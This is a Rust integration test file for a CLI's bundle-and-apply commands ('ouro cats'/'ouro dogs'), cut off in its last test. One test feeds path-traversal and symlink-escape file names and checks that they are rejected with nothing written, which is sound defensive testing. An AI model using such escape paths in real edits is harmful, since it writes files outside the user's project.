//! `ouro cats` and `ouro dogs` as a user runs them: fixture trees bundled and applied back byte
//! for byte, replies in PAWS's format (written from the format's facts), SEARCH/REPLACE and
//! unified diffs, every way a bundle is rejected with nothing written, and verification that
//! takes back exactly what dogs touched.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::common::pty::{Options, Term};
use crate::common::{Sandbox, git};

/// `ouro` in `dir` with a fresh private home and no API credentials.
fn ouro(dir: &Path, args: &[&str], stdin: Option<&[u8]>) -> Output {
    let home = tempfile::tempdir().unwrap();
    ouro_home(home.path(), dir, args, stdin)
}

/// `ouro` in `dir` with `home` as its home and no API credentials.
fn ouro_home(home: &Path, dir: &Path, args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_ouro"));
    command
        .args(args)
        .current_dir(dir)
        .env("OURO_HOME", home)
        .env("HOME", home)
        .env_remove("ANTHROPIC_API_KEY")
        .env_remove("ANTHROPIC_AUTH_TOKEN")
        .env_remove("ANTHROPIC_BASE_URL")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        });
    let mut child = command.spawn().unwrap();
    if let Some(input) = stdin {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(input).unwrap();
    }
    child.wait_with_output().unwrap()
}

fn text(out: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Every file under `dir` (`.git` left out): its bytes and mode.
fn tree(dir: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.file_name().is_some_and(|n| n == ".git") {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                let rel = path.strip_prefix(dir).unwrap().to_path_buf();
                let target = std::fs::read_link(&path).unwrap();
                out.insert(rel, (target.as_os_str().as_encoded_bytes().to_vec(), 0));
            } else {
                let rel = path.strip_prefix(dir).unwrap().to_path_buf();
                out.insert(
                    rel,
                    (std::fs::read(&path).unwrap(), meta.permissions().mode()),
                );
            }
        }
    }
    out
}

fn write(dir: &Path, rel: &str, bytes: &[u8]) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn fixture_tree(dir: &Path) {
    write(dir, "crlf.txt", b"one\r\ntwo\r\n");
    write(dir, "no-final-newline.txt", b"last line");
    write(dir, "empty.txt", b"");
    write(dir, "img.png", b"\x89PNG\r\n\x1a\n\x00\x01\xff");
    write(dir, "latin1.txt", b"caf\xe9 cr\xe8me\n");
    write(dir, "lone-cr.txt", b"a\rb\r");
    write(dir, "ünïcødé/ファイル.txt", "名前\n".as_bytes());
    write(dir, "deep/er/still/file.rs", b"fn main() {}\n");
    write(
        dir,
        "looks-like-markers.md",
        "```\n🐈 --- CATS_END_FILE: looks-like-markers.md ---\n🐕 --- DOGS_START_FILE: x ---\n@@ PAWS_CMD DELETE_FILE() @@\n```\n".as_bytes(),
    );
    write(
        dir,
        "starts-with-its-end.md",
        "```\n🐈 --- CATS_END_FILE: starts-with-its-end.md ---\ntail\n".as_bytes(),
    );
    write(dir, "only-newlines.txt", b"\n\n\n");
    write(dir, " leading and trailing spaces ", b"spaces\n");
    write(dir, "named (Content:Base64)", b"plain text\n");
    write(dir, "a --- b.txt", b"dashes\n");
    write(dir, "ends-with-fence.md", b"text\n```");
    write(
        dir,
        "loose-end.md",
        "x\n``` \r\n🐈 ----- cats_end_file: loose-end.md ---\ny\n".as_bytes(),
    );
    write(dir, "trailing-spaces.txt", b"x   \n   \n");
    let big: Vec<u8> = (0..5_000_000u32)
        .map(|i| b"abcdefghij\n"[(i % 11) as usize])
        .collect();
    write(dir, "big.txt", &big);
}

#[test]
fn cats_then_dogs_into_an_empty_directory_reproduces_the_tree_byte_for_byte() {
    let src = tempfile::tempdir().unwrap();
    fixture_tree(src.path());
    let out = ouro(src.path(), &["cats", ".", "-o", "-"], None);
    assert!(out.status.success(), "{}", text(&out));
    let bundle = out.stdout.clone();
    assert!(bundle.starts_with("# Cats Bundle\n# Format: FULL\n".as_bytes()));
    let table = String::from_utf8_lossy(&out.stderr);
    assert!(
        table.contains("big.txt") && table.contains("total"),
        "{table}"
    );

    // Deterministic: the same tree gives the same bytes.
    let again = ouro(src.path(), &["cats", "."], None);
    assert_eq!(again.stdout, bundle);

    let dst = tempfile::tempdir().unwrap();
    let applied = ouro(dst.path(), &["dogs", "-", "-y"], Some(&bundle));
    assert!(applied.status.success(), "{}", text(&applied));
    let strip_modes = |t: BTreeMap<PathBuf, (Vec<u8>, u32)>| {
        t.into_iter()
            .map(|(p, (b, _))| (p, b))
            .collect::<BTreeMap<_, _>>()
    };
    assert_eq!(strip_modes(tree(dst.path())), strip_modes(tree(src.path())));
}

#[test]
fn cats_selects_by_path_glob_and_budget_and_reads_paths_from_stdin() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), ".gitignore", b"build/\n");
    write(dir.path(), "build/out.txt", b"generated\n");
    write(dir.path(), "src/a.rs", b"fn a() {}\n");
    write(dir.path(), "src/b.rs", &vec![b'x'; 4000]);
    write(dir.path(), "notes.md", b"notes\n");
    let out = ouro(
        dir.path(),
        &["cats", "src/*.rs", "--exclude", "src/b.rs"],
        None,
    );
    let bundle = String::from_utf8_lossy(&out.stdout);
    assert!(
        bundle.contains("CATS_START_FILE: src/a.rs ---"),
        "{}",
        text(&out)
    );
    assert!(!bundle.contains("src/b.rs ---"), "{bundle}");

    let out = ouro(dir.path(), &["cats", "."], None);
    let bundle = String::from_utf8_lossy(&out.stdout);
    assert!(
        !bundle.contains("build/out.txt"),
        ".gitignore honoured: {bundle}"
    );

    let out = ouro(dir.path(), &["cats", ".", "--max-tokens", "400"], None);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("left out") && stderr.contains("src/b.rs"),
        "{stderr}"
    );
    let bundle = String::from_utf8_lossy(&out.stdout);
    assert!(!bundle.contains("CATS_START_FILE: src/b.rs"));
    assert!(bundle.contains("CATS_START_FILE: src/a.rs"), "{bundle}");
    // The budget holds for the whole bundle (instructions, markers), by the same estimate.
    assert!(out.stdout.len() <= 400 * 4, "{} bytes", out.stdout.len());

    let out = ouro(dir.path(), &["cats", "-"], Some(b"notes.md\nsrc/a.rs\n"));
    let bundle = String::from_utf8_lossy(&out.stdout);
    assert!(
        bundle.contains("notes.md ---") && bundle.contains("src/a.rs ---"),
        "{}",
        text(&out)
    );
    // The bundle being written is not bundled into itself on a second run.
    for _ in 0..2 {
        let out = ouro(dir.path(), &["cats", ".", "-o", "sent.md"], None);
        assert!(out.status.success(), "{}", text(&out));
    }
    let sent = std::fs::read_to_string(dir.path().join("sent.md")).unwrap();
    assert!(!sent.contains("CATS_START_FILE: sent.md"), "{sent}");
    let none = ouro(dir.path(), &["cats", "nothing-*.zz"], None);
    assert!(!none.status.success());
    assert!(String::from_utf8_lossy(&none.stderr).contains("names no file"));
}

/// A bundle as PAWS's cats writes it: persona and system prompt first (whose example is a 🐕
/// block with REQUEST_CONTEXT), then the header and the entries.
const PAWS_CATS_BUNDLE: &str = "\n--- START PERSONA ---\nYou are careful.\n--- END PERSONA ---\n\
Answer in this form:\n🐕 --- DOGS_START_FILE: path/to/file ---\n@@ PAWS_CMD REQUEST_CONTEXT(reason=\"example\") @@\n🐕 --- DOGS_END_FILE: path/to/file ---\n\
\n--- END PREPENDED INSTRUCTIONS ---\nThe following content is the Cats Bundle.\n\
# Cats Bundle\n# Format: FULL\n\n\
🐈 --- CATS_START_FILE: src/app.py ---\n```\nprint('hi')\n\n```\n🐈 --- CATS_END_FILE: src/app.py ---\n\n\
🐈 --- CATS_START_FILE: logo.gif (Content:Base64) ---\nR0lGODlhAQABAAAAACw=\n🐈 --- CATS_END_FILE: logo.gif (Content:Base64) ---\n";

#[test]
fn a_bundle_made_by_paws_cats_applies() {
    let dir = tempfile::tempdir().unwrap();
    let out = ouro(
        dir.path(),
        &["dogs", "-", "-y"],
        Some(PAWS_CATS_BUNDLE.as_bytes()),
    );
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        std::fs::read(dir.path().join("src/app.py")).unwrap(),
        b"print('hi')\n"
    );
    assert_eq!(
        std::fs::read(dir.path().join("logo.gif")).unwrap(),
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00,"
    );
}

#[test]
fn a_model_reply_in_the_dog_form_applies_as_paws_documents_it() {
    let dir = tempfile::tempdir().unwrap();
    let ten: String = (1..=10).map(|i| format!("line{i}\n")).collect();
    write(dir.path(), "main.py", ten.as_bytes());
    write(dir.path(), "old.txt", b"bye\n");
    write(dir.path(), "keep-no-newline.txt", b"a");
    // Prose around it, outer fences, CRLF as a browser copy gives it.
    let reply = "Here are the changes.\r\n\r\n```\r\n\
🐕 --- DOGS_START_FILE: main.py ---\r\n\
@@ PAWS_CMD REPLACE_LINES(3, 4) @@\r\nimport sys\r\nimport os\r\n\r\n\
@@ PAWS_CMD DELETE_LINES(6, 6) @@\r\n\
@@ PAWS_CMD INSERT_AFTER_LINE(9) @@\r\nprint('nine')\r\n\
🐕 --- DOGS_END_FILE: main.py ---\r\n\
🐕 --- DOGS_START_FILE: new/module.py ---\r\n```python\r\ndef f():\r\n    return 1\r\n```\r\n🐕 --- DOGS_END_FILE: new/module.py ---\r\n\
🐕 --- DOGS_START_FILE: keep-no-newline.txt ---\r\nb\r\n🐕 --- DOGS_END_FILE: keep-no-newline.txt ---\r\n\
🐕 --- DOGS_START_FILE: old.txt ---\r\n@@ PAWS_CMD DELETE_FILE() @@\r\n🐕 --- DOGS_END_FILE: old.txt ---\r\n\
```\r\nLet me know.\r\n";
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("main.py")).unwrap(),
        "line1\nline2\nimport sys\nimport os\nline5\nline7\nline8\nline9\nprint('nine')\nline10\n"
    );
    assert_eq!(
        std::fs::read(dir.path().join("new/module.py")).unwrap(),
        b"def f():\n    return 1\n"
    );
    assert_eq!(
        std::fs::read(dir.path().join("keep-no-newline.txt")).unwrap(),
        b"b"
    );
    assert!(!dir.path().join("old.txt").exists());
    let summary = String::from_utf8_lossy(&out.stderr);
    assert!(
        summary.contains("1 created, 2 changed, 1 deleted"),
        "{summary}"
    );
}

#[test]
fn search_replace_blocks_and_unified_diffs_apply() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "src/lib.rs",
        b"fn a() {\n    one();\n}\n\nfn b() {\n    two();   \n}\n",
    );
    write(dir.path(), "README.md", b"# Title\n\nOld text.\nEnd.\n");
    let reply = "I'll change b:\n\nsrc/lib.rs\n```rust\n<<<<<<< SEARCH\nfn b() {\n    two();\n}\n=======\nfn b() {\n    three();\n}\n>>>>>>> REPLACE\n```\n\nAnd the readme:\n\n```diff\n--- a/README.md\n+++ b/README.md\n@@ -2,3 +2,3 @@\n \n-Old text.\n+New text.\n End.\n--- /dev/null\n+++ b/docs/new.md\n@@ -0,0 +1,2 @@\n+# New\n+doc\n```\n";
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap(),
        "fn a() {\n    one();\n}\n\nfn b() {\n    three();\n}\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("README.md")).unwrap(),
        "# Title\n\nNew text.\nEnd.\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("docs/new.md")).unwrap(),
        "# New\ndoc\n"
    );
}

/// A reply that must be rejected: exit 2, the tree unchanged, and the reason on stderr.
fn rejected(dir: &Path, reply: &str, reason: &str) {
    let before = tree(dir);
    let out = ouro(dir, &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(reason),
        "{reason:?} not in\n{}",
        text(&out)
    );
    assert_eq!(tree(dir), before, "something was written");
}

#[test]
fn ambiguous_truncated_and_escaping_bundles_write_nothing() {
    let outer = tempfile::tempdir().unwrap();
    let dir = outer.path().join("target");
    write(&dir, "dup.txt", b"x\ny\nx\n");
    write(&dir, "ok.txt", b"fine\n");
    std::os::unix::fs::symlink(outer.path(), dir.join("link")).unwrap();
    let good = "🐕 --- DOGS_START_FILE: ok.txt ---\nchanged\n🐕 --- DOGS_END_FILE: ok.txt ---\n";
    rejected(
        &dir,
        &format!("{good}dup.txt\n<<<<<<< SEARCH\nx\n=======\nz\n>>>>>>> REPLACE\n"),
        "2 times",
    );
    rejected(
        &dir,
        &format!("{good}dup.txt\n<<<<<<< SEARCH\nnot there\n=======\nz\n>>>>>>> REPLACE\n"),
        "not in the file",
    );
    rejected(
        &dir,
        &format!("{good}🐕 --- DOGS_START_FILE: cut.txt ---\nhalf a fi"),
        "never closed",
    );
    for path in [
        "../escaped.txt",
        "/tmp/ouro-abs-escape.txt",
        "a/../../escaped.txt",
        "link/escaped.txt",
    ] {
        rejected(
            &dir,
            &format!(
                "{good}🐕 --- DOGS_START_FILE: {path} ---\nx\n🐕 --- DOGS_END_FILE: {path} ---\n"
            ),
            path,
        );
    }
    assert!(!outer.path().join("escaped.txt").exists());
    assert!(!Path::new("/tmp/ouro-abs-escape.txt").exists());
    rejected(
        &dir,
        &format!(
            "{good}🐕 --- DOGS_START_FILE: dup.txt ---\n@@ PAWS_CMD DELETE_LINES(2, 9) @@\n🐕 --- DOGS_END_FILE: dup.txt ---\n"
        ),
        "not in the file",
    );
}

#[test]
fn a_request_for_context_applies_nothing() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", b"a\n");
    let reply = "🐕 --- DOGS_START_FILE: a.txt ---\nnew\n🐕 --- DOGS_END_FILE: a.txt ---\n🐕 --- DOGS_START_FILE: x ---\n@@ PAWS_CMD REQUEST_CONTEXT(reason=\"show me the tests\", suggested_command=\"ouro cats tests\") @@\n🐕 --- DOGS_END_FILE: x ---\n";
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("show me the tests"));
    assert_eq!(std::fs::read(dir.path().join("a.txt")).unwrap(), b"a\n");
}

#[test]
fn a_failed_verify_restores_exactly_what_dogs_touched_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write(d, "settings.ini", b"version = 1\n");
    std::fs::set_permissions(
        d.join("settings.ini"),
        std::fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    write(d, "gone.txt", b"will be deleted\n");
    write(d, "mine.txt", b"committed\n");
    git(d, &["init", "-q"]);
    git(d, &["add", "."]);
    git(d, &["commit", "-qm", "base"]);
    // The user's own uncommitted work, which a stash-based revert would take along.
    write(d, "mine.txt", b"my uncommitted edit\n");
    write(d, "untracked.txt", b"my new file\n");
    let before = tree(d);

    let reply = "🐕 --- DOGS_START_FILE: settings.ini ---\nversion = 2\n🐕 --- DOGS_END_FILE: settings.ini ---\n\
🐕 --- DOGS_START_FILE: added/new.txt ---\nnew\n🐕 --- DOGS_END_FILE: added/new.txt ---\n\
🐕 --- DOGS_START_FILE: gone.txt ---\n@@ PAWS_CMD DELETE_FILE() @@\n🐕 --- DOGS_END_FILE: gone.txt ---\n";
    let out = ouro(
        d,
        &[
            "dogs",
            "-",
            "-y",
            "--verify",
            "grep -q 'version = 3' settings.ini",
            "--revert-on-fail",
        ],
        Some(reply.as_bytes()),
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_eq!(tree(d), before, "not exactly restored");
    assert!(!d.join("added").exists(), "a folder dogs made is left");
    assert_eq!(git(d, &["stash", "list"]), "");

    // Without --revert-on-fail the change stays; a passing verify exits 0.
    let out = ouro(
        d,
        &[
            "dogs",
            "-",
            "-y",
            "--verify",
            "grep -q 'version = 2' settings.ini",
        ],
        Some(reply.as_bytes()),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        std::fs::read(d.join("settings.ini")).unwrap(),
        b"version = 2\n"
    );
    assert_eq!(
        std::fs::metadata(d.join("settings.ini"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o640
    );
    assert_eq!(
        std::fs::read(d.join("mine.txt")).unwrap(),
        b"my uncommitted edit\n"
    );
}

#[test]
fn a_file_changed_since_it_was_bundled_is_not_overwritten_without_force() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", b"as bundled\n");
    let out = ouro(dir.path(), &["cats", "a.txt", "-o", "sent.md"], None);
    assert!(out.status.success(), "{}", text(&out));
    write(dir.path(), "a.txt", b"edited since\n");
    let reply =
        "🐕 --- DOGS_START_FILE: a.txt ---\nfrom the model\n🐕 --- DOGS_END_FILE: a.txt ---\n";
    write(dir.path(), "reply.md", reply.as_bytes());
    let out = ouro(
        dir.path(),
        &["dogs", "reply.md", "-y", "--manifest", "sent.md"],
        None,
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("changed on disk since it was bundled"));
    assert_eq!(
        std::fs::read(dir.path().join("a.txt")).unwrap(),
        b"edited since\n"
    );
    let out = ouro(
        dir.path(),
        &["dogs", "reply.md", "-y", "--manifest", "sent.md", "--force"],
        None,
    );
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        std::fs::read(dir.path().join("a.txt")).unwrap(),
        b"from the model\n"
    );
}

#[test]
fn dry_run_prints_the_diff_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", b"old\n");
    let reply = "🐕 --- DOGS_START_FILE: a.txt ---\nnew\n🐕 --- DOGS_END_FILE: a.txt ---\n";
    let out = ouro(
        dir.path(),
        &["dogs", "-", "--dry-run"],
        Some(reply.as_bytes()),
    );
    assert!(out.status.success(), "{}", text(&out));
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(
        diff.contains("-old") && diff.contains("+new") && diff.contains("+++ b/a.txt"),
        "{diff}"
    );
    assert_eq!(std::fs::read(dir.path().join("a.txt")).unwrap(), b"old\n");
}

#[test]
fn protected_files_need_a_typed_yes_even_with_y() {
    let reply =
        "🐕 --- DOGS_START_FILE: .envrc ---\nexport X=1\n🐕 --- DOGS_END_FILE: .envrc ---\n";
    // No terminal to ask on: refused.
    let dir = tempfile::tempdir().unwrap();
    let out = ouro(dir.path(), &["dogs", "-", "-y"], Some(reply.as_bytes()));
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!dir.path().join(".envrc").exists());

    // At a terminal: shown, and written only after `yes`.
    let sb = Sandbox::new();
    std::fs::write(sb.root().join("reply.md"), reply).unwrap();
    let dogs_at_a_terminal = || {
        Term::start(
            &sb,
            "http://127.0.0.1:9",
            Options {
                args: &["dogs", "reply.md", "-y"],
                ..Options::default()
            },
        )
    };
    let mut term = dogs_at_a_terminal();
    term.expect(".envrc (");
    term.expect("Type yes to write them");
    term.line("y");
    term.expect("not confirmed");
    assert_eq!(term.wait_exit().exit_code(), 2);
    assert!(!sb.root().join(".envrc").exists());

    let mut term = dogs_at_a_terminal();
    term.expect("Type yes to write them");
    // `d` shows what would be written, then the question again.
    term.line("d");
    term.expect("+export X=1");
    term.expect("Type yes to write them");
    term.line("yes");
    term.expect("applied 1 file");
    assert!(term.wait_exit().success());
    assert_eq!(
        std::fs::read(sb.root().join(".envrc")).unwrap(),
        b"export X=1\n"
    );
}

#[cfg(feature = "mock")]
#[tokio::test(flavor = "multi_thread")]
async fn ai_curate_ranks_asks_again_after_a_malformed_answer_and_keeps_to_the_budget() {
    use serde_json::json;
    let ranking = json!({"files": [
        {"path": "src/auth.rs", "relevance": 0.95, "why": "the login check lives here"},
        {"path": "src/db.rs", "relevance": 0.8, "why": "sessions are stored here"},
        {"path": "README.md", "relevance": 0.3, "why": "background only"}
    ], "confidence": 0.8});
    let api = crate::common::server(json!({"turns": [
        {"content": [{"type": "text", "text": "I would look at src/auth.rs first."}]},
        {"content": [{"type": "text", "text": ranking.to_string()}]}
    ]}))
    .await;
    let sb = Sandbox::new();
    sb.write("src/auth.rs", "fn login() {}\n");
    sb.write("src/db.rs", &"// storage\n".repeat(400));
    sb.write("README.md", "# App\n");
    let run = sb
        .run(
            &api.url(),
            &[
                "cats",
                "--ai-curate",
                "fix the login bug",
                "--max-tokens",
                "400",
                "--count-tokens",
                "api",
            ],
        )
        .await;
    assert!(run.status.success(), "{}", run.debug());
    assert!(
        run.stdout.starts_with(
            "---\nversion: \"1.0\"\ntask_description: \"fix the login bug\"\nmetadata:\n  curation_method: ai_curated\n  ai_curation_confidence: 0.8\n---\n# Cats Bundle\n"
        ),
        "{}",
        run.debug()
    );
    assert!(
        run.stdout.contains("CATS_START_FILE: src/auth.rs ---"),
        "{}",
        run.debug()
    );
    assert!(
        !run.stdout.contains("CATS_START_FILE: src/db.rs"),
        "over budget: {}",
        run.debug()
    );
    assert!(
        !run.stdout.contains("CATS_START_FILE: README.md"),
        "below 0.7: {}",
        run.debug()
    );
    assert!(
        run.stderr.contains("the login check lives here"),
        "{}",
        run.debug()
    );
    assert!(run.stderr.contains("left out") && run.stderr.contains("src/db.rs"));
    assert!(
        run.stderr
            .contains("the whole bundle, counted by the API: "),
        "{}",
        run.debug()
    );
    let bodies = crate::common::bodies(&api);
    assert_eq!(bodies.len(), 2);
    let retry = serde_json::to_string(&bodies[1]["messages"]).unwrap();
    assert!(retry.contains("could not be used"), "{retry}");
}

#[cfg(feature = "mock")]
#[tokio::test(flavor = "multi_thread")]
async fn ai_curate_gives_up_clearly_after_two_malformed_answers() {
    use serde_json::json;
    let api = crate::common::server(json!({"turns": [
        {"content": [{"type": "text", "text": "not json"}]},
        {"content": [{"type": "text", "text": "{\"files\": [{\"path\": \"nope.rs\", \"relevance\": 1, \"why\": \"x\"}]}"}]}
    ]}))
    .await;
    let sb = Sandbox::new();
    sb.write("a.rs", "fn a() {}\n");
    let run = sb
        .run(&api.url(), &["cats", "--ai-curate", "anything"])
        .await;
    assert_eq!(run.status.code(), Some(1), "{}", run.debug());
    assert!(run.stderr.contains("malformed twice"), "{}", run.debug());
    assert!(run.stderr.contains("nope.rs"), "{}", run.debug());
    assert!(run.stdout.is_empty());
}

#[test]
fn the_interactive_review_writes_only_what_was_accepted() {
    let sb = Sandbox::new();
    let root = sb.root();
    let twenty = |edit: &dyn Fn(usize) -> Option<&'static str>| -> String {
        (1..=20)
            .map(|i| format!("{}\n", edit(i).map_or(format!("line {i}"), String::from)))
            .collect()
    };
    write(&root, "a.txt", b"alpha\n");
    write(&root, "b.txt", b"beta\n");
    write(&root, "c.txt", twenty(&|_| None).as_bytes());
    let c_new = twenty(&|i| match i {
        2 => Some("TWO"),
        18 => Some("EIGHTEEN"),
        _ => None,
    });
    let reply = format!(
        "🐕 --- DOGS_START_FILE: a.txt ---\nALPHA\n🐕 --- DOGS_END_FILE: a.txt ---\n\
         🐕 --- DOGS_START_FILE: b.txt ---\nBETA\n🐕 --- DOGS_END_FILE: b.txt ---\n\
         🐕 --- DOGS_START_FILE: c.txt ---\n{c_new}🐕 --- DOGS_END_FILE: c.txt ---\n"
    );
    write(&root, "reply.md", reply.as_bytes());
    let mut term = Term::start(
        &sb,
        "http://127.0.0.1:9",
        Options {
            args: &[
                "dogs",
                "reply.md",
                "--interactive",
                "--feedback",
                "feedback.md",
            ],
            ..Options::default()
        },
    );
    // An 80×24 terminal; the view draws only what changes, so the screen is read as a
    // terminal shows it.
    term.resize(80, 24);
    term.wait_screen("a.txt · hunk 1/1 accepted");
    assert!(term.is_raw());
    term.send("\x1b[B"); // to b.txt
    term.wait_screen("b.txt · hunk 1/1 accepted");
    term.send("R"); // reject the whole file
    term.wait_screen("b.txt · hunk 1/1 rejected");
    term.send("\x1b[B"); // to c.txt
    term.wait_screen("c.txt · hunk 1/2 accepted");
    term.send("\t"); // its second hunk
    term.wait_screen("c.txt · hunk 2/2 accepted");
    term.send("r");
    term.wait_screen("c.txt · hunk 2/2 rejected");
    term.send("c");
    term.wait_screen("comment on this hunk");
    term.send("keep eighteen as it was\r");
    let screen = term.wait_screen("hunk 2/2 rejected · commented");
    assert!(screen.contains("✗ change b.txt"), "{screen}");
    assert!(screen.contains("~ change c.txt"), "{screen}");
    term.send("q");
    term.expect("applied 2 file(s)");
    assert!(term.wait_exit().success(), "{}", term.text());
    assert!(!term.is_raw(), "the terminal was not restored");

    assert_eq!(std::fs::read(root.join("a.txt")).unwrap(), b"ALPHA\n");
    assert_eq!(std::fs::read(root.join("b.txt")).unwrap(), b"beta\n");
    assert_eq!(
        std::fs::read_to_string(root.join("c.txt")).unwrap(),
        twenty(&|i| (i == 2).then_some("TWO"))
    );
    let feedback = std::fs::read_to_string(root.join("feedback.md")).unwrap();
    assert!(
        feedback.contains("## c.txt (hunk 2, rejected)"),
        "{feedback}"
    );
    assert!(feedback.contains("+EIGHTEEN") && feedback.contains("keep eighteen as it was"));
}

fn dog(path: &str, content: &str) -> String {
    format!("🐕 --- DOGS_START_FILE: {path} ---\n{content}\n🐕 --- DOGS_END_FILE: {path} ---\n")
}

/// A private ouro home and a repository whose one commit holds `a.txt` with `content`.
fn home_and_repository(content: &[u8]) -> (tempfile::TempDir, tempfile::TempDir) {
    let home = tempfile::tempdir().unwrap();
    let repo = tempfile::tempdir().unwrap();
    write(repo.path(), "a.txt", content);
    git(repo.path(), &["init", "-q"]);
    git(repo.path(), &["add", "."]);
    git(repo.path(), &["commit", "-qm", "base"]);
    (home, repo)
}

/// `ouro ARGS` in `repo` with `home`, which must succeed; its stdout.
fn succeed(home: &Path, repo: &Path, args: &[&str], stdin: Option<&[u8]>) -> String {
    let out = ouro_home(home, repo, args, stdin);
    assert!(out.status.success(), "{args:?}\n{}", text(&out));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn worktrees_take_bundles_as_checkpoints_rewind_merge_and_archive() {
    let (home, repo) = home_and_repository(b"one\n");
    let r = repo.path();
    let run = |args: &[&str], stdin: Option<&[u8]>| succeed(home.path(), r, args, stdin);
    let started = run(&["worktree", "start", "feat"], None);
    let path = PathBuf::from(started.trim().rsplit(" at ").next().unwrap());
    assert!(
        path.starts_with(home.path()),
        "kept in ouro's home: {started}"
    );
    assert_eq!(std::fs::read(path.join("a.txt")).unwrap(), b"one\n");

    run(
        &["dogs", "-", "-y", "--worktree", "feat"],
        Some(dog("a.txt", "two").as_bytes()),
    );
    run(
        &["dogs", "-", "-y", "--worktree", "feat"],
        Some(dog("b.txt", "bee").as_bytes()),
    );
    assert_eq!(std::fs::read(path.join("a.txt")).unwrap(), b"two\n");
    assert_eq!(
        std::fs::read(r.join("a.txt")).unwrap(),
        b"one\n",
        "the main tree is untouched"
    );
    let list = run(&["worktree", "list"], None);
    assert!(list.contains("cp1") && list.contains("cp2"), "{list}");
    assert!(git(&path, &["tag"]).contains("ouro/feat/cp2"));

    // Uncommitted work in the worktree stops a rewind.
    write(&path, "a.txt", b"scribble\n");
    let refused = ouro_home(
        home.path(),
        r,
        &["worktree", "rewind", "feat", "--to", "cp1"],
        None,
    );
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("uncommitted changes"));
    assert_eq!(std::fs::read(path.join("a.txt")).unwrap(), b"scribble\n");
    git(&path, &["checkout", "--", "a.txt"]);
    run(&["worktree", "rewind", "feat", "--to", "cp1"], None);
    assert!(!path.join("b.txt").exists());
    assert_eq!(std::fs::read(path.join("a.txt")).unwrap(), b"two\n");

    // A dirty main tree stops a merge; a clean one takes it as one commit.
    write(r, "a.txt", b"local edit\n");
    let refused = ouro_home(
        home.path(),
        r,
        &["worktree", "merge", "feat", "--squash"],
        None,
    );
    assert!(!refused.status.success());
    assert_eq!(std::fs::read(r.join("a.txt")).unwrap(), b"local edit\n");
    git(r, &["checkout", "--", "a.txt"]);
    run(&["worktree", "merge", "feat", "--squash"], None);
    assert_eq!(std::fs::read(r.join("a.txt")).unwrap(), b"two\n");
    assert!(git(r, &["log", "--oneline"]).contains("Merge worktree feat"));

    run(&["worktree", "archive", "feat"], None);
    assert!(!path.exists());
    assert!(run(&["worktree", "list"], None).contains("feat (archived)"));
}

#[cfg(feature = "mock")]
#[tokio::test(flavor = "multi_thread")]
async fn a_session_can_start_in_a_worktree() {
    use serde_json::json;
    let api = crate::common::server(json!({"turns": [
        {"content": [{"type": "text", "text": "In the worktree."}]}
    ]}))
    .await;
    let sb = Sandbox::new();
    sb.write("a.txt", "one\n");
    git(&sb.root(), &["init", "-q"]);
    git(&sb.root(), &["add", "."]);
    git(&sb.root(), &["commit", "-qm", "base"]);
    let run = sb
        .run(&api.url(), &["-p", "hello", "--worktree", "w2"])
        .await;
    assert!(run.status.success(), "{}", run.debug());
    assert!(run.stdout.contains("In the worktree."));
    assert!(
        run.stderr.contains("working in worktree w2"),
        "{}",
        run.debug()
    );
    let body = serde_json::to_string(&crate::common::bodies(&api)[0]).unwrap();
    assert!(
        body.contains("worktrees"),
        "the session's directory is the worktree: {body}"
    );

